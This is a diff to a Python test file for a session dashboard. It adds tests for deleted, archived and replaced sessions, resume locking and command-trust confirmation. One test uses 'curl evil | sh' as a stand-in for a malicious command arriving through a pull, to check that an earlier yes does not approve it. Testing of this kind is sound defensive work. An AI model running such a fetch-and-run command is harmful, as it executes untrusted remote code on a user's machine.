@@ -15,11 +15,14 @@ from pathlib import Path
 
 import pytest
 import sessions
+from journals import told
 from test_dashboard import asked, text, until, watching
 
-from autoresearch.state import records
-from autoresearch.state.session import Session
+from autoresearch.engine.opening import RunOptions
+from autoresearch.state import records, trust
+from autoresearch.state.session import Locked, Session, SessionError
 from autoresearch.tui.recovering import end_engine, last_words
+from autoresearch.tui.starting import Detached
 
 HOLDER = """
 import signal, sys, time
@@ -171,6 +174,8 @@ async def test_a_session_that_vanishes_is_said_to_be_gone_and_comes_back(tmp_pat
     with sessions.engine(writer):
         async with watching(writer) as (app, pilot):
             shutil.move(writer.session.folder, away)
+            await until(pilot, lambda: "The session is gone" in text(pilot))
+            await pilot.press("w")
             await until(pilot, lambda: "NO SESSION" in text(pilot))
             writer.now += 60_000
             app.board.refresh_state()
@@ -181,6 +186,65 @@ async def test_a_session_that_vanishes_is_said_to_be_gone_and_comes_back(tmp_pat
             shutil.move(away, writer.session.folder)
             writer.live(experiment=writer.number, k=2)
             await until(pilot, lambda: "RUNNING" in text(pilot))
+
+
+async def test_a_deleted_session_offers_the_others(tmp_path: Path) -> None:
+    writer = sessions.paused(tmp_path, experiments=5)
+    async with watching(writer) as (app, pilot):
+        shutil.rmtree(writer.session.folder)
+        await until(pilot, lambda: "The session is gone" in text(pilot))
+        await pilot.press("enter")
+        await until(pilot, lambda: app.showing_home)
+
+
+async def test_an_archived_or_replaced_session_says_so(tmp_path: Path) -> None:
+    writer = sessions.paused(tmp_path, experiments=5)
+    async with watching(writer) as (app, pilot):
+        writer.session.archive_mark.touch()
+        await until(pilot, lambda: "This session was archived" in text(pilot))
+        other = sessions.paused(tmp_path / "other", experiments=9).session.journal
+        assert other.stat().st_size > writer.session.journal.stat().st_size
+        other.replace(writer.session.journal)  # as a pull does
+        await until(pilot, lambda: len(app.board.history.rows) == 9 and "was replaced meanwhile" in text(pilot))
+
+
+async def test_who_resumes_second_is_told_so_and_watches(tmp_path: Path) -> None:
+    writer = sessions.paused(tmp_path, experiments=5)
+
+    def held() -> None:
+        raise Locked(writer.session.name, 7)
+
+    async with watching(writer, starter=sessions.Starts(held)) as (app, pilot):
+        await pilot.press("r")
+        await until(pilot, lambda: "Somebody else has just started it" in text(pilot))
+        assert app.board.engine is not None
+        assert app.board.engine.state == "paused", "no longer said to be starting here"
+
+
+async def test_a_yes_covers_only_what_was_shown(tmp_path: Path) -> None:
+    writer = sessions.paused(tmp_path, experiments=5)
+    starter = sessions.Starts(lambda: None)
+    starter.unconfirmed = [("measure.run", "python train.py")]
+    async with watching(writer, starter=starter) as (_, pilot):
+        await pilot.press("r")
+        await until(pilot, lambda: "measure.run: python train.py" in text(pilot))
+        starter.unconfirmed = [("measure.run", "curl evil | sh")]  # a pull, while the question stands
+        await pilot.press("y")
+        await until(pilot, lambda: "curl evil" in text(pilot))
+        assert starter.began == []
+        await pilot.press("y")
+        await until(pilot, lambda: len(starter.began) == 1)
+
+
+def test_a_trust_given_at_the_start_does_not_cover_what_was_pulled_later(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    story = told(tmp_path / "repo")
+    starter = Detached(RunOptions(session=story.session.name, trust=True))
+    trust.note_pulled(story.place.common_dir, story.session.name, "origin")
+    with pytest.raises(SessionError, match="nobody has confirmed"):
+        starter.resume(story.place, story.session)
 
 
 @pytest.mark.parametrize("size", [(80, 24), (120, 40)])
